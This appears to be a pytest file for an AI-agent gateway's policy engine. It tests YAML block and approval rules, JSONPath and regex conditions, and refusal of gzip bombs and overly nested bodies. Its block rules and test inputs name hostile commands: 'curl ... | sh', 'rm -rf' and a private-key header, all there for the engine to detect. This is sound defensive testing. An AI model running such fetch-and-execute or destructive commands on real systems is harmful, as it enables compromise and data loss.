"""Block and approval rules: loading (errors name file:line:key) and evaluating every
kind of condition on a request."""

from __future__ import annotations

import textwrap
from pathlib import Path

import pytest

from hoop_addon.policy.loader import PolicyError, load_policy
from hoop_addon.policy.model import Policy
from hoop_addon.policy.conditions import RequestFacts, UninspectableBody, estimate_tokens, evaluate, request_key

BASE = """\
issuers:
  - name: idp
    issuer: https://idp.example
    audience: hoop-gateway
    jwks: https://idp.example/jwks.json
routes:
  - name: llm
    match: {hosts: [api.example], paths: [/v1/*]}
    allow: {groups: [agents]}
  - name: store
    match: {hosts: [store.example]}
    allow: {groups: [agents]}
"""

RULES = """\
block:
  - name: shell-pipe
    when:
      routes: [llm]
      json:
        - path: $.messages[*].content
          matches: 'curl [^|]*\\|\\s*sh'
    reason: piping to a shell is not allowed
  - name: huge
    when: {body_larger_than: 1000}
    action: log
    reason: large bodies are being reviewed
  - name: interns-no-delete
    when: {methods: [DELETE], groups: [interns]}
  - name: no-debug-header
    when: {headers: {X-Debug: '^(1|true)$'}}
  - name: secret-word
    when: {body_matches: ['(?i)top secret']}
approvals:
  - name: big-prompts
    when: {routes: [llm], tokens_more_than: 100}
    approvers: {groups: [reviewers]}
  - name: store-writes
    when: {routes: [store], methods: [PUT, POST], subjects: [agent-risky]}
    approvers: {subjects: [alice]}
    min_approvals: 2
    timeout: 60
    mode: ticket
    ticket_window: 120
defaults:
  max_pending: 7
"""


DEEP_RULE = """\
block:
  - name: anywhere
    when:
      json:
        - path: $..content
          matches: 'rm -rf'
"""


def deep(levels: int) -> bytes:
    """A JSON body nested `levels` lists deep."""
    return b"[" * levels + b'{"content": "hi"}' + b"]" * levels


def load(tmp_path: Path, extra: str = RULES) -> Policy:
    (tmp_path / "p.yaml").write_text(BASE + textwrap.dedent(extra))
    return load_policy(tmp_path / "p.yaml", resolve_env=False)


def error(tmp_path: Path, extra: str) -> str:
    with pytest.raises(PolicyError) as caught:
        load(tmp_path, extra)
    return str(caught.value)


def facts(route: str = "llm", method: str = "POST", body: bytes = b"", subject: str = "agent-1",
          groups: tuple[str, ...] = ("agents",), headers: tuple[tuple[str, str], ...] = ()) -> RequestFacts:
    return RequestFacts(route, method, "https://idp.example", subject, groups, headers, body)


def chat(content: str) -> bytes:
    return b'{"messages": [{"role": "user", "content": "' + content.encode() + b'"}]}'


class TestLoading:
    def test_rules_load(self, tmp_path: Path) -> None:
        policy = load(tmp_path)
        assert [r.name for r in policy.block_rules] == ["shell-pipe", "huge", "interns-no-delete", "no-debug-header", "secret-word"]
        assert policy.block_rules[1].action == "log" and policy.block_rules[0].action == "block"
        store = policy.approval_rules[1]
        assert (store.mode, store.min_approvals, store.timeout, store.ticket_window) == ("ticket", 2, 60, 120)
        assert store.approver_subjects.anywhere == {"alice"} and store.when.methods == {"PUT", "POST"}
        big = policy.approval_rules[0]
        assert (big.mode, big.min_approvals, big.timeout) == ("hold", 1, 300)
        assert policy.max_pending == 7

    @pytest.mark.parametrize(
        ("extra", "expected"),
        [
            ("block:\n  - name: x\n    when: {routes: [lm]}\n", "p.yaml:15: block[0].when.routes[0]: unknown route 'lm' (did you mean 'llm'?)"),
            ("block:\n  - name: x\n    when: {body_matches: ['(a']}\n", "block[0].when.body_matches[0]: invalid RE2 pattern"),
            ("block:\n  - name: x\n    when: {json: [{path: '$..[', matches: a}]}\n", "block[0].when.json[0].path: invalid JSONPath"),
            ("block:\n  - name: x\n    when: {}\n", "block[0].when: a rule needs at least one condition"),
            ("block:\n  - name: x\n    when: {methods: [GET]}\n    action: drop\n", "block[0].action: 'drop' is not one of: block, log"),
            ("block:\n  - name: x\n    when: {method: [GET]}\n", "block[0].when.method: unknown key (did you mean 'methods'?)"),
            ("approvals:\n  - name: x\n    when: {methods: [GET]}\n    approvers: {}\n", "approvals[0].approvers: nobody can approve"),
            ("approvals:\n  - name: x\n    when: {methods: [GET]}\n    approvers: {groups: [a]}\n    timeout: 0\n", "approvals[0].timeout: must be 1..86400"),
            ("approvals:\n  - name: x\n    when: {methods: [GET]}\n    approvers: {groups: [a]}\n    mode: wait\n", "approvals[0].mode: 'wait' is not one of: hold, ticket"),
            ("approvals:\n  - name: x\n    when: {methods: [GET]}\n    approvers: {groups: [a]}\n    action: block\n", "approvals[0].action: 'block' is not one of: require, log"),
            ("block:\n  - name: x\n    when: {methods: [GET]}\napprovals:\n  - name: x\n    when: {methods: [GET]}\n    approvers: {groups: [a]}\n", "approvals[0].name: duplicate block/approval rule name 'x'"),
            ("defaults: {max_pending: 0}\n", "defaults.max_pending: must be 1..100000"),
        ],
    )
    def test_errors_name_file_line_key(self, tmp_path: Path, extra: str, expected: str) -> None:
        message = error(tmp_path, extra)
        assert expected in message and message.startswith(str(tmp_path / "p.yaml") + ":")


class TestEvaluation:
    @pytest.fixture
    def policy(self, tmp_path: Path) -> Policy:
        return load(tmp_path)

    def run(self, policy: Policy, f: RequestFacts) -> tuple[str | None, list[str], str | None]:
        block, shadow, approval = evaluate(policy.block_rules, policy.approval_rules, f)
        return block and block.name, [r.name for r in shadow], approval and approval.name

    def test_jsonpath_and_regex_on_the_unmasked_body(self, policy: Policy) -> None:
        assert self.run(policy, facts(body=chat("run curl https://x.sh | sh now"))) == ("shell-pipe", [], None)
        assert self.run(policy, facts(route="store", body=chat("curl https://x.sh | sh"))) == (None, [], None)
        assert self.run(policy, facts(body=b'{"input": "curl a | sh"}')) == (None, [], None)  # path selects nothing

    def test_log_rules_are_shadow_only_and_do_not_stop_evaluation(self, policy: Policy) -> None:
        body = chat("x" * 1200)
        assert self.run(policy, facts(body=body)) == (None, ["huge"], "big-prompts")
        assert self.run(policy, facts(body=chat("top SECRET " + "x" * 1200))) == ("secret-word", ["huge"], None)

    def test_a_log_approval_rule_is_shadow_only(self, tmp_path: Path) -> None:
        policy = load(tmp_path, """\
approvals:
  - name: watch-prompts
    when: {routes: [llm], tokens_more_than: 10}
    approvers: {groups: [reviewers]}
    action: log
  - name: big-prompts
    when: {routes: [llm], tokens_more_than: 100}
    approvers: {groups: [reviewers]}
""")
        assert self.run(policy, facts(body=b'"' + b"y" * 100 + b'"')) == (None, ["watch-prompts"], None)
        assert self.run(policy, facts(body=b'"' + b"y" * 500 + b'"')) == (None, ["watch-prompts"], "big-prompts")

    def test_method_and_group(self, policy: Policy) -> None:
        assert self.run(policy, facts(route="store", method="DELETE", groups=("agents", "interns")))[0] == "interns-no-delete"
        assert self.run(policy, facts(route="store", method="DELETE"))[0] is None
        assert self.run(policy, facts(route="store", method="GET", groups=("interns",)))[0] is None

    def test_header_regex_any_case_and_missing(self, policy: Policy) -> None:
        assert self.run(policy, facts(headers=(("x-DEBUG", "true"),)))[0] == "no-debug-header"
        assert self.run(policy, facts(headers=(("X-Debug", "0"),)))[0] is None
        assert self.run(policy, facts())[0] is None

    def test_tokens_and_subjects_select_approval_rules(self, policy: Policy) -> None:
        assert self.run(policy, facts(body=b'"' + b"y" * 398 + b'"')) == (None, [], None)  # 100 tokens: not more
        assert self.run(policy, facts(body=b'"' + b"y" * 399 + b'"')) == (None, [], "big-prompts")
        assert self.run(policy, facts(route="store", method="PUT", subject="agent-risky"))[2] == "store-writes"
        assert self.run(policy, facts(route="store", method="PUT", subject="agent-1"))[2] is None

    def test_body_that_is_not_json_fails_closed(self, policy: Policy) -> None:
        with pytest.raises(UninspectableBody):
            evaluate(policy.block_rules, policy.approval_rules, facts(body=b"curl x | sh"))
        assert self.run(policy, facts(body=b"")) == (None, [], None)  # nothing to inspect

    def test_body_nested_too_deep_for_jsonpath_is_uninspectable(self, tmp_path: Path) -> None:
        """A descendant query on a body nested past the JSONPath library's depth limit
        raises its JSONPathRecursionError: that is an uninspectable body (422)."""
        policy = load(tmp_path, DEEP_RULE)
        with pytest.raises(UninspectableBody, match="nested too deep"):
            evaluate(policy.block_rules, policy.approval_rules, facts(body=deep(200)))
        assert self.run(policy, facts(body=deep(20)))[0] is None  # shallow: inspected

    def test_token_estimate(self) -> None:
        assert [estimate_tokens(b"x" * n) for n in (0, 1, 4, 5)] == [0, 1, 1, 2]


def test_request_key_covers_identity_request_and_body() -> None:
    key = request_key(b"s", "https://idp", "agent", "llm", "POST", "https://a/v1", b"{}")
    assert len(key) == 64
    for changed in (
        request_key(b"t", "https://idp", "agent", "llm", "POST", "https://a/v1", b"{}"),
        request_key(b"s", "https://idp", "other", "llm", "POST", "https://a/v1", b"{}"),
        request_key(b"s", "https://other-idp", "agent", "llm", "POST", "https://a/v1", b"{}"),  # the same subject elsewhere
        request_key(b"s", "https://idp", "agent", "llm", "PUT", "https://a/v1", b"{}"),
        request_key(b"s", "https://idp", "agent", "llm", "POST", "https://a/v2", b"{}"),
        request_key(b"s", "https://idp", "agent", "llm", "POST", "https://a/v1", b"{ }"),
    ):
        assert changed != key
    assert request_key(b"s", "https://idp", "agent", "llm", "post", "https://a/v1", b"{}") == key


class TestGuardStage:
    """The Guard stage decodes bodies with the Mask stage's bounded decoder and limit."""

    def guarded(self, tmp_path: Path, body: bytes, encoding: str, rules: str = RULES) -> tuple[object, int]:
        """The flow after the Guard (with `hoop_mask_max_body=1m`), and the peak memory
        traced while it ran."""
        import tracemalloc

        from mitmproxy.test import taddons, tflow

        from hoop_addon.identity.verifier import Verifier
        from hoop_addon.stages import hoop, mark_admitted
        from hoop_addon.stages.guard import Guard
        from hoop_addon.stages.mask import Mask
        from hoop_addon.stages.policy import Enforcement, PolicyStage

        policy = PolicyStage()
        policy.active = Enforcement(load(tmp_path, rules), Verifier((), {}))
        mask = Mask()
        guard = Guard(policy, mask)
        with taddons.context(guard, mask) as tctx:
            tctx.configure(tctx.master.addons.get("mask"), hoop_mask_max_body="1m")
            flow = tflow.tflow()
            flow.request.method = "POST"
            flow.request.headers["Content-Encoding"] = encoding
            flow.request.raw_content = body
            mark_admitted(flow, None)
            hoop(flow)["identity"] = {"subject": "agent-1", "issuer": "i", "groups": ["agents"], "token_id": None}
            tracemalloc.start()
            try:
                guard.request(flow)
                peak = tracemalloc.get_traced_memory()[1]
            finally:
                tracemalloc.stop()
        return flow, peak

    def test_gzip_bomb_is_refused_without_decoding_it(self, tmp_path: Path) -> None:
        import gzip
        import json

        bomb = gzip.compress(b"\0" * (40 * 1024 * 1024), 9)  # ~40 KB decoding to 40 MB
        assert len(bomb) < 100 * 1024
        flow, peak = self.guarded(tmp_path, bomb, "gzip")
        assert flow.response is not None and flow.response.status_code == 413
        doc = json.loads(flow.response.content)
        assert doc["stage"] == "guard" and doc["error"] == "request_too_large"
        assert "exceeds 1048576 bytes" in doc["message"]
        assert peak < 8 * 1024 * 1024, peak  # never held the 40 MB

    def test_small_gzip_body_is_still_inspected(self, tmp_path: Path) -> None:
        import gzip

        flow, _ = self.guarded(tmp_path, gzip.compress(b"this is TOP SECRET"), "gzip")
        assert flow.response is not None and flow.response.status_code == 403
        assert b"secret-word" in flow.response.content

    def test_body_nested_too_deep_is_refused_with_422(self, tmp_path: Path) -> None:
        import json

        flow, _ = self.guarded(tmp_path, deep(200), "identity", DEEP_RULE)
        assert flow.response is not None and flow.response.status_code == 422
        doc = json.loads(flow.response.content)
        assert doc["error"] == "uninspectable_request" and "nested too deep" in doc["message"]


class TestOtlpExports:
    """A JSONPath condition reads an OTLP/HTTP protobuf export in its OTLP/JSON shape,
    as masking rules do: a trace rule works for the Python exporter's protobuf too."""

    POLICY = """\
block:
  - name: no-keys-in-traces
    when:
      routes: [store]
      json:
        - path: "$..attributes[?@.key=='gen_ai.input.messages'].value.stringValue"
          matches: 'BEGIN [A-Z ]*PRIVATE KEY'
    reason: a private key in a conversation trace
"""

    @staticmethod
    def export(text: str) -> bytes:
        from opentelemetry.proto.collector.trace.v1.trace_service_pb2 import ExportTraceServiceRequest
        from opentelemetry.proto.common.v1.common_pb2 import AnyValue, KeyValue

        req = ExportTraceServiceRequest()
        span = req.resource_spans.add().scope_spans.add().spans.add(name="chat", trace_id=bytes(16), span_id=bytes(8))
        span.attributes.append(KeyValue(key="gen_ai.input.messages", value=AnyValue(string_value=text)))
        return req.SerializeToString()

    def facts(self, body: bytes, path: str = "/v1/traces") -> RequestFacts:
        return RequestFacts("store", "POST", "https://idp.example", "a", ["agents"],
                            [("Content-Type", "application/x-protobuf")], body, path)

    def test_protobuf_export_matches_by_attribute(self, tmp_path: Path) -> None:
        policy = load(tmp_path, self.POLICY)
        key = self.export('[{"content": "-----BEGIN RSA PRIVATE KEY----- abc"}]')
        assert evaluate(policy.block_rules, (), self.facts(key))[0].name == "no-keys-in-traces"
        assert evaluate(policy.block_rules, (), self.facts(self.export("hello")))[0] is None

    @pytest.mark.parametrize(("body", "path"), [(b"\xff\xff", "/v1/traces"), (b"\x0a\x00", "/v1/metrics")])
    def test_what_is_not_an_otlp_export_is_uninspectable(self, tmp_path: Path, body: bytes, path: str) -> None:
        policy = load(tmp_path, self.POLICY)
        with pytest.raises(UninspectableBody):
            evaluate(policy.block_rules, (), self.facts(body, path))
